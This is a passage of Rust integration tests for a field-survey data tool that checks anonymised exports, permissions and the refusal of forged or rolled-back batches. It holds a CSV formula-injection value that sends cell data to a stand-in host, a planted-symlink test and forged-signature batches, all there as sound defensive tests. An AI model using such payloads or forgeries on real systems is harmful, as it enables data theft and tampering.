        assert!(codebook.contains("fieldtest,sex,sex,Sex,select_one sex,female=Female; male=Male"), "{codebook}");
        let dofile = std::fs::read_to_string(flat.join("fieldtest.do")).unwrap();
        assert!(dofile.contains("rename v4 journey_helped"), "{dofile}");
        assert!(dofile.contains("label define L2 1 `\"Female\"' 2 `\"Male\"', replace"), "{dofile}");
        assert!(dofile.contains("save \"fieldtest-incident.dta\", replace"));

        let xl = out.path().join("xl");
        ok(&fourmi(&[
            "hq",
            "export",
            "xlsx",
            "--yes",
            "--k",
            "1",
            "--form",
            "fieldtest",
            "--to",
            &xl.display().to_string(),
            "--labels",
            "French (fr)",
        ]));
        use calamine::Reader;
        let mut wb: calamine::Xlsx<_> = calamine::open_workbook(xl.join("fieldtest.xlsx")).unwrap();
        assert_eq!(wb.sheet_names(), ["fieldtest", "fieldtest-incident", "codebook"]);
        let sheet = wb.worksheet_range("fieldtest").unwrap();
        let sex_col = headers.iter().position(|h| h == "sex").unwrap();
        let mut values: Vec<String> = sheet.rows().skip(1).map(|r| r[sex_col].to_string()).collect();
        values.sort();
        assert_eq!(values, ["Femme", "Homme"], "labels in French (rows in an order of this release's own)");

        // CSV with French labels for Excel in French: the do-file reads `;` and encodes the
        // labels the cells hold (not the choice names, which would leave every answer missing).
        let fr = out.path().join("fr");
        ok(&fourmi(&[
            "hq",
            "export",
            "csv",
            "--yes",
            "--k",
            "1",
            "--form",
            "fieldtest",
            "--to",
            &fr.display().to_string(),
            "--labels",
            "French (fr)",
            "--excel-fr",
        ]));
        let dofile = std::fs::read_to_string(fr.join("fieldtest.do")).unwrap();
        assert!(dofile.contains("import delimited using \"fieldtest.csv\", delimiters(\";\")"), "{dofile}");
        assert!(dofile.contains("if sex == `\"Homme\"'"), "{dofile}");
        assert!(!dofile.contains("if sex == `\"male\"'"), "{dofile}");
    });
}

#[test]
fn the_laptop_writes_its_own_reviewed_records_as_anonymised_flat_files() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    laptop.approved(&[answers(1)]);
    let out = tempfile::tempdir().unwrap();
    laptop.export(&out.path().join("batch"));
    laptop.approved(&[answers(2)]);
    let to = out.path().join("flat");
    let run = laptop.run(
        &["records", "export", "csv", "--yes", "--k", "1", "--form", "fieldtest", "--to", &to.display().to_string()],
        "chief",
    );
    ok(&run);
    let mut main = csv::Reader::from_path(to.join("fieldtest.csv")).unwrap();
    let headers: Vec<String> = main.headers().unwrap().iter().map(str::to_string).collect();
    assert!(!headers.iter().any(|h| h.contains("respondent_name")));
    let rows: Vec<csv::StringRecord> = main.records().map(Result::unwrap).collect();
    let status = headers.iter().position(|h| h == "_status").unwrap();
    let mut statuses: Vec<&str> = rows.iter().map(|r| &r[status]).collect();
    statuses.sort();
    assert_eq!(statuses, ["approved", "exported"], "approved and exported records, one row each");
    let story = headers.iter().position(|h| h == "journey/story").unwrap();
    assert!(rows.iter().all(|r| r[story].contains("[phone]") && !r[story].contains("@")));
    let denied = laptop.run(
        &["records", "export", "csv", "--yes", "--k", "1", "--form", "fieldtest", "--to", &to.display().to_string()],
        "ana",
    );
    assert!(!denied.status.success(), "monitors cannot write flat files");

    // For French Excel: a byte-order mark (accents intact) and `;` between fields.
    let fr = out.path().join("excel-fr");
    let args = [
        "records",
        "export",
        "csv",
        "--yes",
        "--k",
        "1",
        "--form",
        "fieldtest",
        "--labels",
        "French (fr)",
        "--excel-fr",
        "--to",
    ];
    ok(&laptop.run(&[&args[..], &[fr.to_str().unwrap()]].concat(), "chief"));
    let bytes = std::fs::read(fr.join("fieldtest.csv")).unwrap();
    assert!(bytes.starts_with("\u{FEFF}".as_bytes()), "a UTF-8 byte-order mark first");
    let text = String::from_utf8(bytes).unwrap();
    let header = text.trim_start_matches('\u{FEFF}').lines().next().unwrap();
    assert!(header.contains(";sex;") || header.contains(";sex"), "fields separated by semicolons: {header}");
    let mut fr_rows =
        csv::ReaderBuilder::new().delimiter(b';').from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
    let fh: Vec<String> = fr_rows.headers().unwrap().iter().map(str::to_string).collect();
    let sex = fh.iter().position(|h| h == "sex").unwrap();
    let sexes: Vec<String> = fr_rows.records().map(|r| r.unwrap()[sex].to_string()).collect();
    assert!(sexes.iter().all(|s| s == "Homme" || s == "Femme"), "{sexes:?}");
    let codebook = std::fs::read(fr.join("fieldtest-codebook.csv")).unwrap();
    assert!(codebook.starts_with("\u{FEFF}".as_bytes()), "the codebook too");
}

#[test]
fn a_bundled_covid_interview_with_its_metadata_round_trips() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    let covid = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("forms/4mi-covid19.toml");
    std::fs::copy(covid, laptop.path("form.toml")).unwrap();
    let bamako: serde_json::Value = serde_json::from_str(
        r#"{"monitor": "mon01", "mode": "phone", "country": "mali", "city": "bamako", "neighbourhood": "niamakoro", "consent": "yes", "age": 24, "arrived_within_year": "yes", "sex": "male", "nationality": "guinea", "c1": "yes", "c2": "yes", "c3": "agree", "c4": "agree", "c5": "agree", "c6": ["ngo_un"], "c7": ["media"], "c10": ["ngo_un"], "c11": ["fever"], "c12": ["older"], "c13": ["mask"], "c15": "no", "c17": "dont_know", "c18": ["money"], "c19": ["none"], "c20": ["movement"], "c21": "same", "c23": "no", "c26": "no", "c29": "same", "situation": "better", "smuggler_need": "dont_know", "covid_factor_leaving": "no", "destination": "mali"}"#,
    )
    .unwrap();
    let ids = laptop.approved(&[bamako]);
    let out = tempfile::tempdir().unwrap();
    let file = laptop.export(out.path());
    hq.register(&laptop);
    assert_eq!(hq.import(&file).unwrap().counts.imported, 1);
    let local = laptop.open().record(&ids[0]).unwrap();
    let mut at_hq = Vec::new();
    hq.open().each_record("4mi_covid19", |r| at_hq.push(r)).unwrap();
    assert!(local.answers.as_object().unwrap().contains_key("deviceid"), "the metadata travels");
    assert_eq!(serde_json::Value::Object(at_hq[0].answers.clone()), local.answers);
}

#[test]
fn a_batch_whose_answers_do_not_fit_the_form_is_refused() {
    on_both(|| {
        use fourmi::batch::payload::BatchLine;
        use fourmi::store::hq::Incoming;
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        laptop.approved(&[answers(1)]);
        let store = laptop.open();
        let set = store.export_set(&Selection::Next(RecordFilter::default())).unwrap();
        let prepared = fourmi::batch::export::prepare(set, &AS_GIVEN).unwrap();
        let line = BatchLine {
            format: 1,
            device_id: store.device_id().into(),
            seq: 1,
            created_at: "x".into(),
            coarsen: "none".into(),
            k: None,
        };
        let header = fourmi::batch::envelope::Header {
            format: 1,
            device_id: store.device_id().into(),
            seq: 1,
            reexport_of: None,
            created_at: "x".into(),
            recipients: vec![],
            payload_sha256: String::new(),
            payload_bytes: 0,
        };
        for (field, value, why) in [
            ("sex", serde_json::json!("robot"), "choice its list does not have"),
            ("age", serde_json::json!("old"), "age"),
            ("nowhere", serde_json::json!("x"), "not a question"),
            ("perp", serde_json::json!(["police"]), "outside its repeat"),
            ("age", serde_json::json!([1]), "holds a list"),
            ("sex", serde_json::json!(["male", "female"]), "holds a list"),
            ("consent", serde_json::json!("no"), "not answered yes"),
        ] {
            let mut records = prepared.records.clone();
            records[0].answers.insert(field.into(), value);
            let bytes = fourmi::batch::payload::write(&line, None, &prepared.forms, &records, &[], |_| {});
            let (l, incoming): (BatchLine, Incoming) = fourmi::batch::payload::read(&bytes).unwrap();
            let err = fourmi::batch::import::validate(&header, &l, &incoming).unwrap_err();
            assert!(err.to_string().contains(why), "{field}: {err}");
        }
        // The fields beside the answers are checked too.
        let mut records = prepared.records.clone();
        records[0].started_at = "not a time".into();
        let mut other = prepared.records.clone();
        other[0].monitor = "=HYPERLINK(\"x\")".into();
        for (records, why) in [(records, "`started_at` is not a time"), (other, "monitor is not an account name")] {
            let bytes = fourmi::batch::payload::write(&line, None, &prepared.forms, &records, &[], |_| {});
            let (l, incoming): (BatchLine, Incoming) = fourmi::batch::payload::read(&bytes).unwrap();
            let err = fourmi::batch::import::validate(&header, &l, &incoming).unwrap_err();
            assert!(err.to_string().contains(why), "{err}");
        }
    });
}

#[test]
fn a_missing_folder_is_refused_before_a_batch_number_is_used() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    laptop.approved(&[answers(1)]);
    let out = tempfile::tempdir().unwrap();
    let mut store = laptop.open();
    let missing = out.path().join("no-such-stick");
    let err = export(&mut store, &Selection::Next(RecordFilter::default()), &AS_GIVEN, &missing).unwrap_err();
    assert!(err.to_string().contains("does not exist"), "{err}");
    assert!(store.batches().unwrap().is_empty(), "no number taken");
    let (written, _) = export(&mut store, &Selection::Next(RecordFilter::default()), &AS_GIVEN, out.path()).unwrap();
    assert!(written.path.to_string_lossy().ends_with("-00001.batch"));
}

#[test]
fn text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_csv_and_said_so_in_the_codebook() {
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    let mut a = answers(1);
    a["story"] = serde_json::json!("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")");
    let mut b = answers(2);
    b["story"] = serde_json::json!("@SUM(1+1)");
    laptop.approved(&[a, b]);
    let to = tempfile::tempdir().unwrap();
    let run = laptop.run(
        &[
            "records",
            "export",
            "csv",
            "--yes",
            "--k",
            "1",
            "--form",
            "fieldtest",
            "--to",
            &to.path().display().to_string(),
        ],
        "chief",
    );
    ok(&run);
    let mut main = csv::Reader::from_path(to.path().join("fieldtest.csv")).unwrap();
    let headers: Vec<String> = main.headers().unwrap().iter().map(str::to_string).collect();
    let story = headers.iter().position(|h| h == "journey/story").unwrap();
    let age = headers.iter().position(|h| h == "age").unwrap();
    let rows: Vec<csv::StringRecord> = main.records().map(Result::unwrap).collect();
    let mut stories: Vec<&str> = rows.iter().map(|r| &r[story]).collect();
    stories.sort();
    assert_eq!(stories, ["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'@SUM(1+1)"]);
    assert!(rows.iter().all(|r| r[age].parse::<i64>().is_ok()), "numbers stay numbers");
    let codebook = std::fs::read_to_string(to.path().join("fieldtest-codebook.csv")).unwrap();
    assert!(codebook.contains("so that spreadsheets do not run it as a formula"));
}

#[cfg(unix)]
#[test]
fn every_file_fourmi_writes_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    laptop.approved(&[answers(1)]);
    let out = tempfile::tempdir().unwrap();
    let batch = laptop.export(out.path());
    hq.register(&laptop);
    hq.import(&batch).unwrap();
    let flat = out.path().join("flat");
    std::fs::create_dir_all(&flat).unwrap();
    ok(&laptop.run(
        &["records", "export", "csv", "--yes", "--k", "1", "--form", "fieldtest", "--to", &flat.display().to_string()],
        "chief",
    ));
    let _open = laptop.open();
    let mut files: Vec<PathBuf> = Vec::new();
    for dir in [laptop.data(), hq.db_dir(), out.path().to_path_buf(), flat] {
        files.extend(std::fs::read_dir(dir).unwrap().filter_map(Result::ok).map(|e| e.path()).filter(|p| p.is_file()));
    }
    assert!(files.iter().any(|f| f.ends_with("fourmi.db-wal")), "the WAL is there while the store is open: {files:?}");
    for f in &files {
        let mode = std::fs::metadata(f).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{} is {mode:o}", f.display());
    }
}

/// What laptop `from` would send: `records` (and `tombstones`) as its own.
fn incoming_from(
    from: &Laptop,
    records: Vec<fourmi::store::hq::Record>,
    tombstones: Vec<fourmi::store::Tombstone>,
) -> fourmi::store::hq::Incoming {
    let device = from.open().device_id().to_string();
    let records = records
        .into_iter()
        .map(|r| fourmi::store::hq::Record { device_id: device.clone(), revision: r.revision + 1, ..r })
        .collect();
    fourmi::store::hq::Incoming { forms: Vec::new(), records, tombstones, accounts: None }
}

/// A's records at headquarters, as lines (what B must not change).
fn records_of(hq: &Headquarters, device: &str) -> Vec<String> {
    let mut out = Vec::new();
    hq.open()
        .each_record("fieldtest", |r| {
            if r.device_id == device {
                out.push(format!("{} {} {:?}", r.uuid, r.revision, r.answers));
            }
        })
        .unwrap();
    out
}

#[test]
fn a_laptop_can_neither_revise_nor_withdraw_another_laptops_records_at_headquarters() {
    on_both(|| {
        let hq = Headquarters::new();
        let a = Laptop::new(std::slice::from_ref(&hq.recipient));
        let b = Laptop::new(std::slice::from_ref(&hq.recipient));
        a.approved(&[answers(1), answers(2)]);
        let out = tempfile::tempdir().unwrap();
        hq.register(&a);
        hq.register(&b);
        hq.import(&a.export(&out.path().join("a"))).unwrap();
        let a_device = a.open().device_id().to_string();
        let before = records_of(&hq, &a_device);
        let mut at_hq = Vec::new();
        hq.open().each_record("fieldtest", |r| at_hq.push(r)).unwrap();
        let b_device = b.open().device_id().to_string();
        // B sends A's records under their ids with a higher revision, and withdrawal markers for them:
        // they are B's own records (counted as sharing ids), and A's stay as they were.
        let mut revised = incoming_from(&b, at_hq.clone(), Vec::new());
        for r in &mut revised.records {
            r.answers.insert("age".into(), serde_json::json!(99));
        }
        let counts = hq.open().merge(&b_device, (1, 2, None), "d1", "forged-1", &revised).unwrap();
        assert_eq!((counts.imported, counts.updated, counts.shared_ids), (2, 0, 2));
        let tombstones = at_hq
            .iter()
            .map(|r| fourmi::store::Tombstone {
                uuid: r.uuid.clone(),
                form_id: r.form_id.clone(),
                withdrawn_at: "2026-01-01".into(),
                withdrawal: None,
            })
            .collect();
        let withdrawn = incoming_from(&b, Vec::new(), tombstones);
        let counts = hq.open().merge(&b_device, (2, 2, None), "d2", "forged-2", &withdrawn).unwrap();
        assert_eq!(counts.deleted, 2, "B withdrew its own copies");
        assert_eq!(records_of(&hq, &a_device), before, "A's records are untouched");
        // A's own withdrawal still works.
        let mine = at_hq[0].clone();
        let own = fourmi::store::hq::Incoming {
            forms: Vec::new(),
            records: Vec::new(),
            tombstones: vec![fourmi::store::Tombstone {
                uuid: mine.uuid.clone(),
                form_id: mine.form_id.clone(),
                withdrawn_at: "2026-01-02".into(),
                withdrawal: None,
            }],
            accounts: None,
        };
        let counts = hq.open().merge(&a_device, (2, 2, None), "d3", "a-2", &own).unwrap();
        assert_eq!(counts.deleted, 1);
    });
}

#[test]
fn a_record_id_another_laptop_sent_first_does_not_block_the_laptop_that_made_it() {
    on_both(|| {
        let hq = Headquarters::new();
        let a = Laptop::new(std::slice::from_ref(&hq.recipient));
        let b = Laptop::new(std::slice::from_ref(&hq.recipient));
        let ids = a.approved(&[answers(1)]);
        hq.register(&a);
        hq.register(&b);
        // B learned the id of A's record before A exported it, and sends a record under it.
        let out = tempfile::tempdir().unwrap();
        let set = a.open().export_set(&Selection::Next(RecordFilter::default())).unwrap();
        let prepared = fourmi::batch::export::prepare(set, &AS_GIVEN).unwrap();
        let mut claimed = incoming_from(&b, prepared.records.clone(), Vec::new());
        claimed.forms = prepared.forms.clone();
        let b_device = b.open().device_id().to_string();
        hq.open().merge(&b_device, (1, 2, None), "d", "b-1", &claimed).unwrap();
        let counts = hq.import(&a.export(out.path())).unwrap().counts;
        assert_eq!((counts.imported, counts.shared_ids), (1, 1), "A's record arrives, and the shared id is counted");
        let mut found = Vec::new();
        hq.open().each_record("fieldtest", |r| found.push((r.device_id, r.uuid))).unwrap();
        assert!(found.contains(&(a.open().device_id().to_string(), ids[0].clone())));
    });
}

#[test]
fn a_withdrawal_sent_first_by_another_laptop_claims_nothing() {
    on_both(|| {
        let hq = Headquarters::new();
        let a = Laptop::new(std::slice::from_ref(&hq.recipient));
        let b = Laptop::new(std::slice::from_ref(&hq.recipient));
        let ids = a.approved(&[answers(1)]);
        hq.register(&a);
        hq.register(&b);
        // B learned A's record id and withdraws it before A's batch arrives.
        let b_device = b.open().device_id().to_string();
        let early = fourmi::store::hq::Incoming {
            forms: Vec::new(),
            records: Vec::new(),
            tombstones: vec![fourmi::store::Tombstone {
                uuid: ids[0].clone(),
                form_id: "fieldtest".into(),
                withdrawn_at: "x".into(),
                withdrawal: None,
            }],
            accounts: None,
        };
        hq.open().merge(&b_device, (1, 2, None), "d", "b-1", &early).unwrap();
        let out = tempfile::tempdir().unwrap();
        let counts = hq.import(&a.export(out.path())).unwrap().counts;
        assert_eq!(counts.imported, 1, "A's record arrives: B's withdrawal applies to B's records only");
    });
}

#[cfg(unix)]
#[test]
fn files_already_where_an_export_writes_are_replaced_never_followed_or_kept_open_to_others() {
    use std::os::unix::fs::PermissionsExt;
    let hq = Headquarters::new();
    let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
    laptop.approved(&[answers(1)]);
    let out = tempfile::tempdir().unwrap();
    let to = out.path().join("flat");
    std::fs::create_dir_all(&to).unwrap();
    let victim = out.path().join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    std::fs::write(to.join("fieldtest.csv"), "old").unwrap();
    std::fs::set_permissions(to.join("fieldtest.csv"), std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::symlink(&victim, to.join("fieldtest-codebook.csv")).unwrap();
    ok(&laptop.run(
        &["records", "export", "csv", "--yes", "--k", "1", "--form", "fieldtest", "--to", &to.display().to_string()],
        "chief",
    ));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me", "a planted link is not followed");
    for f in ["fieldtest.csv", "fieldtest-codebook.csv"] {
        let meta = std::fs::symlink_metadata(to.join(f)).unwrap();
        assert!(meta.is_file(), "{f} is a new file");
        assert_eq!(meta.permissions().mode() & 0o777, 0o600, "{f}");
    }
}

/// What a forged batch carries: records, withdrawals, the signed account list.
type Contents<'a> = (&'a [fourmi::store::hq::Record], &'a [fourmi::store::Tombstone], Option<&'a (String, String)>);

/// A batch signed with the laptop's key (as whoever holds it could write one): `records` and
/// `tombstones` as given, with `accounts` as the signed account list, in
/// batch `format`, numbered `seq`; the forms of `prepared`.
fn forged_batch(
    store: &Store,
    prepared: &fourmi::batch::export::Prepared,
    (records, tombstones, accounts): Contents,
    (format, seq): (u32, i64),
    recipient: &str,
    dir: &Path,
) -> PathBuf {
    use fourmi::batch::envelope;
    let key = store.device_signing_key().unwrap();
    let device_id = store.device_id().to_string();
    let line = fourmi::batch::payload::BatchLine {
        format,
        device_id: device_id.clone(),
        seq,
        created_at: "2026-12-01T10:00:00.000+00:00".into(),
        coarsen: "none".into(),
        k: None,
    };
    let plain = fourmi::batch::payload::write(&line, accounts, &prepared.forms, records, tombstones, |_| {});
    let (body, digest) = envelope::encrypt(&plain, &[recipient.to_string()]).unwrap();
    let header = envelope::Header {
        format,
        device_id: device_id.clone(),
        seq,
        reexport_of: None,
        created_at: line.created_at.clone(),
        recipients: vec![recipient.to_string()],
        payload_sha256: String::new(),
        payload_bytes: 0,
    };
    let head = envelope::seal(header, &key, &digest, body.len() as u64);
    let path = dir.join(format!("forged-{seq}-{format}-{}.batch", rand::random::<u32>()));
    std::fs::write(&path, [head, body].concat()).unwrap();
    path
}

#[test]
fn headquarters_refuses_records_that_no_supervisor_of_the_laptops_signed_list_approved() {
    on_both(|| {
        use fourmi::store::roster::{Roster, RosterEntry, public_b64};
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        laptop.approved(&[answers(1), answers(2)]);
        hq.register(&laptop);
        let out = tempfile::tempdir().unwrap();
        let store = laptop.open();
        let set = store.export_set(&Selection::Next(RecordFilter::default())).unwrap();
        let prepared = fourmi::batch::export::prepare(set, &AS_GIVEN).unwrap();
        let accounts = prepared.accounts.clone().expect("the export carries the signed account list");
        // The monitor's own key, as a monitor with the keyring and its passphrase has it.
        let ring = fourmi::store::keyring::Keyring::load(&laptop.data().join("keyring.json")).unwrap();
        let ana = ring.open_secrets("ana", "monitor passphrase 1").unwrap();
        let ana = ed25519_dalek::SigningKey::from_bytes(ana.signing.as_ref().unwrap());
        let device = store.device_id().to_string();
        type Case = (&'static str, Vec<fourmi::store::hq::Record>, Option<(String, String)>);
        let mut cases: Vec<Case> = Vec::new();
        let mut none = prepared.records.clone();
        none[0].approval = None;
        cases.push(("no approval", none, Some(accounts.clone())));
        cases.push(("approved by a monitor", by_monitor_again(&prepared, &ana, &device), Some(accounts.clone())));
        let mut later = prepared.records.clone();
        later[0].revision += 1;
        cases.push(("a revision nobody approved", later, Some(accounts.clone())));
        let mut list: Roster = serde_json::from_str(&accounts.0).unwrap();
        list.entry_mut("ana").unwrap().role = fourmi::store::Role::Supervisor;
        let promoted = list.sign(&ana);
        cases.push(("a list the laptop did not sign", by_monitor_again(&prepared, &ana, &device), Some(promoted)));
        cases.push(("no account list", prepared.records.clone(), None));
        let unknown = Roster {
            device_id: device.clone(),
            version: 99,
            accounts: vec![RosterEntry {
                name: "ghost".into(),
                role: fourmi::store::Role::Supervisor,
                key: Some(public_b64(&ana)),
                recipient: None,
                disabled: false,
            }],
        };
        cases.push((
            "a list naming a ghost supervisor, signed by the monitor",
            prepared.records.clone(),
            Some(unknown.sign(&ana)),
        ));
        let before = hq.dump();
        for (seq, (why, records, list)) in (1..).zip(&cases) {
            let file =
                forged_batch(&store, &prepared, (records, &[], list.as_ref()), (2, seq), &hq.recipient, out.path());
            let err = hq.import(&file).expect_err(why);
            assert!(matches!(err, BatchError::Unapproved(_)), "{why}: {err}");
            assert_eq!(hq.dump(), before, "{why}: nothing imported");
        }
        assert!(hq.open().devices().unwrap()[0].imported.is_empty(), "no batch number was taken");
        // The genuine batch imports; a batch without approvals from this laptop is refused after it.
        let genuine = forged_batch(
            &store,
            &prepared,
            (&prepared.records, &[], Some(&accounts)),
            (2, 1),
            &hq.recipient,
            out.path(),
        );
        assert_eq!(hq.import(&genuine).unwrap().counts.imported, 2);
        let mut revised = prepared.records.clone();
        revised[0].revision += 1;
        let old_format = forged_batch(&store, &prepared, (&revised, &[], None), (1, 2), &hq.recipient, out.path());
        let err = hq.import(&old_format).unwrap_err();
        assert!(err.to_string().contains("format 1, without signed approvals"), "{err}");
    });
}

/// The records with the first one's approval signed by the monitor `ana` as `ana`.
fn by_monitor_again(
    prepared: &fourmi::batch::export::Prepared,
    ana: &ed25519_dalek::SigningKey,
    device: &str,
) -> Vec<fourmi::store::hq::Record> {
    let mut records = prepared.records.clone();
    let r = &records[0];
    let a = r.approval.clone().unwrap();
    records[0].approval =
        Some(fourmi::store::Approval::sign(ana, device, &r.uuid, r.revision, &a.answers_sha256, "ana", &a.at));
    records
}

#[test]
fn withdrawals_go_to_headquarters_only_signed_by_a_supervisor_of_the_laptops_signed_list() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let out = tempfile::tempdir().unwrap();
        let ids = laptop.approved(&[answers(1), answers(2)]);
        hq.import(&laptop.export(&out.path().join("1"))).unwrap();
        laptop.open().withdraw(&ids[1]).unwrap();
        // Withdrawn before withdrawals were signed (as on a laptop from an older fourmi): left out,
        // and said so, until a supervisor signs it.
        let key = {
            let ring = fourmi::store::keyring::Keyring::load(&laptop.data().join("keyring.json")).unwrap();
            let s = ring.open_secrets("chief", PASS).unwrap();
            s.data_key.iter().map(|b| format!("{b:02x}")).collect::<String>()
        };
        let conn = rusqlite::Connection::open(laptop.data().join("fourmi.db")).unwrap();
        conn.execute_batch(&format!("PRAGMA key = \"x'{key}'\"; DELETE FROM withdrawals;")).unwrap();
        drop(conn);
        let set = laptop.open().export_set(&Selection::Next(RecordFilter::default())).unwrap();
        assert_eq!((set.tombstones.len(), set.unsigned_withdrawals.clone()), (0, vec![ids[1].clone()]));
        assert!(!laptop.open().withdrawal_verified(&ids[1]).unwrap());
        laptop.open().withdraw(&ids[1]).unwrap();
        let set = laptop.open().export_set(&Selection::Next(RecordFilter::default())).unwrap();
        assert_eq!((set.tombstones.len(), set.unsigned_withdrawals.len()), (1, 0));
        // At headquarters, a withdrawal without a signature, or signed by a monitor, is refused whole.
        let store = laptop.open();
        let prepared = fourmi::batch::export::prepare(set, &AS_GIVEN).unwrap();
        let ring = fourmi::store::keyring::Keyring::load(&laptop.data().join("keyring.json")).unwrap();
        let ana = ring.open_secrets("ana", "monitor passphrase 1").unwrap();
        let ana = ed25519_dalek::SigningKey::from_bytes(ana.signing.as_ref().unwrap());
        let device = store.device_id().to_string();
        let before = hq.dump();
        let mut unsigned = prepared.clone();
        unsigned.tombstones[0].withdrawal = None;
        let mut by_monitor = prepared.clone();
        by_monitor.tombstones[0].withdrawal =
            Some(fourmi::store::Withdrawal::sign(&ana, &device, &ids[1], "ana", "2026-12-01T10:00:00.000+00:00"));
        for (why, p) in [("unsigned", &unsigned), ("signed by a monitor", &by_monitor)] {
            let file =
                forged_batch(&store, p, (&[], &p.tombstones, p.accounts.as_ref()), (2, 2), &hq.recipient, out.path());
            let err = hq.import(&file).expect_err(why);
            assert!(err.to_string().contains("withdrawal"), "{why}: {err}");
            assert_eq!(hq.dump(), before, "{why}");
        }
        let file = forged_batch(
            &store,
            &prepared,
            (&[], &prepared.tombstones, prepared.accounts.as_ref()),
            (2, 2),
            &hq.recipient,
            out.path(),
        );
        assert_eq!(hq.import(&file).unwrap().counts.deleted, 1);
    });
}

#[test]
fn an_older_account_list_than_one_headquarters_has_seen_is_refused_as_a_rollback() {
    on_both(|| {
        let hq = Headquarters::new();
        let laptop = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&laptop);
        let out = tempfile::tempdir().unwrap();
        laptop.approved(&[answers(1)]);
        let old_list = laptop.open().export_set(&Selection::Next(RecordFilter::default())).unwrap().accounts.unwrap();
        hq.import(&laptop.export(&out.path().join("1"))).unwrap();
        // The list changes (an account disabled), and a batch carries the newer list.
        laptop.open().disable_account("ana").unwrap();
        laptop.approved_by_coordinator(&[answers(2)]);
        hq.import(&laptop.export(&out.path().join("2"))).unwrap();
        // A batch signed with the laptop's key but carrying the older list (files put back).
        let store = laptop.open();
        let set = store.export_set(&Selection::Again(2)).unwrap();
        let prepared = fourmi::batch::export::prepare(set, &AS_GIVEN).unwrap();
        let before = hq.dump();
        let file = forged_batch(
            &store,
            &prepared,
            (&prepared.records, &[], Some(&old_list)),
            (2, 3),
            &hq.recipient,
            out.path(),
        );
        let err = hq.import(&file).unwrap_err();
        assert!(err.to_string().contains("older than version"), "{err}");
        assert_eq!(hq.dump(), before);
        // In another headquarters, the batches arrive in another order: the genuine older batch
        // still imports after the newer one, and the rolled-back batch, arriving before batch 2,
        // is named when batch 2 shows its list is older.
        drop(store);
        let hq2 = Headquarters::new_with_identity_of(&hq);
        hq2.register(&laptop);
        let second = out.path().join("2").read_dir().unwrap().next().unwrap().unwrap().path();
        let first = out.path().join("1").read_dir().unwrap().next().unwrap().unwrap().path();
        hq2.import(&file).unwrap();
        let two = hq2.import(&second).unwrap();
        assert_eq!(two.rolled_back.map(|(seq, _)| seq), Some(3), "batch 3 is named as the rollback");
        hq2.import(&first).expect("a genuine older batch imports whatever the order");
    });
}

#[test]
fn headquarters_warns_when_the_newest_version_of_a_form_relabels_what_an_older_one_labelled() {
    on_both(|| {
        let hq = Headquarters::new();
        let a = Laptop::new(std::slice::from_ref(&hq.recipient));
        let b = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&a);
        hq.register(&b);
        let out = tempfile::tempdir().unwrap();
        a.approved(&[answers(1)]);
        hq.import(&a.export(&out.path().join("a"))).unwrap();
        // B's version of the form swaps the labels of `female` and `male`.
        let swapped = FORM
            .replace("version = \"1\"", "version = \"2\"")
            .replace("= \"Female\"", "= \"TMP\"")
            .replace("= \"Male\"", "= \"Female\"")
            .replace("= \"TMP\"", "= \"Male\"");
        std::fs::write(b.path("form.toml"), swapped).unwrap();
        b.approved(&[answers(2)]);
        hq.import(&b.export(&out.path().join("b"))).unwrap();
        let flat = out.path().join("flat");
        let run = Command::new(env!("CARGO_BIN_EXE_fourmi"))
            .args(["hq", "export", "csv", "--yes", "--k", "1", "--form", "fieldtest"])
            .args(hq.cli_args())
            .arg("--to")
            .arg(&flat)
            .output()
            .unwrap();
        ok(&run);
        let warned = String::from_utf8_lossy(&run.stderr);
        assert!(warned.contains("labels otherwise") && warned.contains("`male`"), "{warned}");
    });
}

/// Headquarters keeps its own register of flat releases, on either database: a release made
/// otherwise than the form's last one is refused unless said to be new, and unsaid settings
/// are the last release's.
#[test]
fn headquarters_refuses_flat_files_made_otherwise_than_its_last_release_unless_said_new() {
    on_both(|| {
        let hq = Headquarters::new();
        let a = Laptop::new(std::slice::from_ref(&hq.recipient));
        hq.register(&a);
        let out = tempfile::tempdir().unwrap();
        a.approved(&[answers(1), answers(2)]);
        hq.import(&a.export(&out.path().join("a"))).unwrap();
        let export = |to: &str, extra: &[&str]| {
            Command::new(env!("CARGO_BIN_EXE_fourmi"))
                .args(["hq", "export", "csv", "--yes", "--form", "fieldtest"])
                .args(extra)
                .args(hq.cli_args())
                .arg("--to")
                .arg(out.path().join(to))
                .output()
                .unwrap()
        };
        ok(&export("one", &["--k", "1"]));
        let refused = export("two", &["--k", "2"]);
        assert!(!refused.status.success());
        assert!(String::from_utf8_lossy(&refused.stderr).contains("were written on"), "{refused:?}");
        assert!(!out.path().join("two").exists(), "nothing is written");
        let same = export("three", &[]);
        ok(&same);
        assert!(String::from_utf8_lossy(&same.stdout).contains("k 1, l 1"), "{same:?}");
        ok(&export("four", &["--k", "2", "--new-release"]));
        let mut db = Hq::open_at(&hq.database).unwrap();
        use fourmi::store::ReleaseRegister;
        let options: Vec<String> = db.releases("fieldtest").unwrap().into_iter().map(|r| r.options).collect();
        assert_eq!(options, ["k=2 l=1 coarsen=day", "k=1 l=1 coarsen=day", "k=1 l=1 coarsen=day"]);
    });
}

